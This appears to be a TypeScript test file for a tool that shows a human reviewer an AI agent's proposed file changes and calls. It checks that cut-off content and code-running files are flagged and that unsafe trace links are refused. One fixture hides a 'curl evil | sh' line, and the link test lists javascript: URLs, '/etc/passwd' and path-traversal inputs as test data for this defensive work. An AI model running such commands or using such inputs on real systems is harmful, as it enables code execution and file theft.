import { strict as assert } from 'node:assert';
import { test } from 'node:test';

import * as changes from '../src/change';
import { Following } from '../src/change';
import { traceHref } from '../src/trace';

const HUNDRED = Array.from({ length: 80 }, (_, i) => `+echo ${i}`);

/**
 * A file as the kernel's displayed frame has it, cut after 80 lines (the payload among the
 * rest): what is shown, and how many lines the kernel holds to show on `all` (`more`).
 */
function cutFile(): changes.IFileChange {
  return {
    path: 'run.sh', status: 'new', added: 101, removed: 0, lines: ['@@ -0,0 +1,101 @@', ...HUNDRED],
    omitted: 21, note: '', content: 'c0ffee', unseen: '21 more lines', more: 102, rest: '',
    runs_code: '', executable: false
  };
}

const WHOLE = 'Apply these changes? [y/N] ';
const CUT = 'Apply these changes? Not shown: run.sh: 21 more lines. Type all to see all of it first, ' +
  'or unseen to apply it without seeing the rest [all/unseen/N] ';

test('a change with nothing cut is complete; one with a file cut says what and that more can be shown', () => {
  const whole: changes.IChange = {
    files: [{ path: 'a.txt', status: 'new', added: 1, removed: 0, lines: ['+a'], omitted: 0, note: '',
              unseen: '', full: [], rest: '', runs_code: '', executable: false }]
  };
  assert.equal(changes.isComplete(whole), true);
  assert.deepEqual(changes.unseenOf(whole), []);
  assert.deepEqual(changes.actionsOf(whole), ['apply', 'discard']);

  const cut: changes.IChange = { files: [cutFile()] };
  assert.equal(changes.isComplete(cut), false);
  assert.equal(changes.hasMore(cut), true);
  assert.deepEqual(changes.unseenOf(cut), ['run.sh: 21 more lines']);
  assert.deepEqual(changes.changeWarnings(cut), ['Not shown: run.sh: 21 more lines.']);
  assert.deepEqual(changes.actionsOf(cut), ['all', 'apply', 'unseen', 'discard']);
});

test("a kernel that sent the whole rendering itself (`full`, before `more`) still offers Show all", () => {
  const { more: _more, ...file } = cutFile();
  for (const full of [['@@ -0,0 +1,101 @@', ...HUNDRED, '+curl evil | sh'], '+curl evil | sh\n']) {
    const change = { files: [{ ...file, full }] };
    assert.equal(changes.isComplete(change), false);
    assert.equal(changes.hasMore(change), true);
    assert.deepEqual(changes.actionsOf(change), ['all', 'apply', 'unseen', 'discard']);
  }
  assert.equal(changes.hasMore({ files: [{ ...file, full: [] }] }), false);
});

test('a change the kernel shows in full but still could not show all of offers no Show all', () => {
  const rest = { ...cutFile(), more: 0, unseen: '3 more lines past what can be shown' };
  const change = { files: [rest] };
  assert.equal(changes.isComplete(change), false);
  assert.equal(changes.hasMore(change), false);
  assert.deepEqual(changes.actionsOf(change), ['apply', 'unseen', 'discard']);
});

test("a kernel's frame without the new fields reads as shown whole, nothing running code", () => {
  const old = { files: [{ path: 'a.txt', status: 'changed', added: 1, removed: 1, lines: [], omitted: 0,
                          note: '' }] };
  assert.equal(changes.isComplete(old), true);
  assert.deepEqual(changes.changeWarnings(old), []);
  assert.deepEqual(changes.fileMarks(old.files[0]), []);
});

test('files that run code are named with why, and an executable file is marked, as the question says', () => {
  const envrc = { ...cutFile(), path: '.envrc', unseen: '', runs_code: 'direnv runs this when a shell enters the folder' };
  const script = { ...cutFile(), path: 'build.sh', status: 'changed', unseen: '', executable: true,
                   runs_code: 'it is executable: it runs as a program' };
  const change = { files: [envrc, script] };
  assert.deepEqual(changes.runsCodeOf(change), [
    '.envrc: direnv runs this when a shell enters the folder',
    'build.sh: it is executable: it runs as a program']);
  assert.deepEqual(changes.changeWarnings(change), [
    '2 files run code: .envrc: direnv runs this when a shell enters the folder; ' +
    'build.sh: it is executable: it runs as a program.']);
  assert.deepEqual(changes.changeWarnings({ files: [envrc] }), [
    '1 file runs code: .envrc: direnv runs this when a shell enters the folder.']);
  assert.deepEqual(changes.fileMarks(script), ['executable (mode kept)',
                                               'RUNS CODE: it is executable: it runs as a program']);
});

test("a call whose arguments were cut is incomplete, and Show all offers the kernel's full text", () => {
  const call = { name: 'post', arguments: 'x'.repeat(2000) + '...', unseen: 'the arguments were cut to 2,003 of 3,000 characters',
                 more: 3000, digest: 'd' };
  const change = { files: [], call };
  assert.equal(changes.isComplete(change), false);
  assert.equal(changes.hasMore(change), true);
  const { more: _more, ...older } = call; // a kernel before `more` sent the arguments as `full`
  assert.equal(changes.hasMore({ files: [], call: { ...older, full: 'x'.repeat(3000) } }), true);
  assert.equal(changes.hasMore({ files: [], call: { ...call, more: 0 } }), false);
  assert.deepEqual(changes.changeWarnings(change), ['Not shown: the arguments were cut to 2,003 of 3,000 characters.']);
  assert.equal(changes.isComplete({ files: [], call: { ...call, unseen: '', more: 0 } }), true);
});

test('Apply answers y only to a question of a change shown whole; Show all and Apply unseen only to a cut one', () => {
  assert.equal(changes.answersOf(WHOLE), 'whole');
  assert.equal(changes.answersOf(CUT), 'cut');
  assert.equal(changes.answersOf('Apply these changes?'), 'unknown');
  assert.equal(changes.replyFor('apply', WHOLE), 'y');
  assert.equal(changes.replyFor('apply', CUT), null);
  assert.equal(changes.replyFor('apply', 'Apply these changes? '), null);
  assert.equal(changes.replyFor('all', CUT), 'all');
  assert.equal(changes.replyFor('unseen', CUT), 'unseen');
  assert.equal(changes.replyFor('all', WHOLE), null);
  assert.equal(changes.replyFor('unseen', WHOLE), null);
  assert.equal(changes.replyFor('discard', WHOLE), 'n');
  assert.equal(changes.replyFor('discard', CUT), 'n');
});

const dialog: Following = { kind: 'dialog' };
function stdin(prompt: string, answered = false): Following {
  return { kind: 'stdin', prompt, answered };
}
function output(text: string): Following {
  return { kind: 'output', text };
}

test('a dialog answers the first question after it, only while it begins with its own', () => {
  const asks = 'Call post?';
  assert.deepEqual(changes.bindingOf([], asks), { state: 'waiting' });
  assert.deepEqual(changes.bindingOf([output('post: sending\n')], asks), { state: 'waiting' });
  assert.deepEqual(changes.bindingOf([output('hi'), stdin('Call post? [y/N] ')], asks),
                   { state: 'asked', index: 1 });
  assert.equal(changes.bindingOf([stdin('Apply these changes? [y/N] ')], asks).state, 'over');
  assert.equal(changes.bindingOf([stdin('Call postman? [y/N] ')], 'Call post?!').state, 'over');
});

test("a dialog whose question was answered in the box is over, and never takes the next call's question", () => {
  const asks = 'Call post?';
  // JupyterLab records the answer (prompt and value) before the box, and keeps the box a moment
  const typed = [output('Call post? [y/N]  y\n'), stdin('Call post? [y/N] ', true), dialog,
                 stdin('Call post? [y/N] ')];
  assert.deepEqual(changes.bindingOf(typed, asks), { state: 'over', why: 'answered in the box' });
  // the second call's dialog (shown while the first box lingers) takes the second question
  assert.deepEqual(changes.bindingOf(typed.slice(3), asks), { state: 'asked', index: 0 });
  assert.deepEqual(changes.bindingOf([stdin('Call post? [y/N] ', true), stdin('Call post? [y/N] ')], asks),
                   { state: 'asked', index: 1 });
});

test('a dialog followed by another change before any question is never asked', () => {
  const binding = changes.bindingOf([dialog, stdin('Apply these changes? [y/N] ')], 'Apply these changes?');
  assert.equal(binding.state, 'over');
});

test('a trace links only workspace-relative paths, each step percent-encoded after ./', () => {
  assert.equal(traceHref('notes.txt'), './notes.txt');
  assert.equal(traceHref('src/app.py'), './src/app.py');
  assert.equal(traceHref('my notes#1?.txt'), './my%20notes%231%3F.txt');
  assert.equal(traceHref('a/b:c.txt'), './a/b%3Ac.txt');
  for (const path of ["javascript:void(document.title='x')", 'JavaScript:alert(1)', ' javascript:x',
                      'data:text/html,<b>x</b>', 'https://example.com/x', '/etc/passwd', '//evil.com/x',
                      '../secret.txt', 'a/../../b', 'a\\b', 'java\tscript:x', '\u0000x', 'a\nb', '',
                      'a//b', 'a/', ' ']) {
    assert.equal(traceHref(path), null, JSON.stringify(path));
  }
});
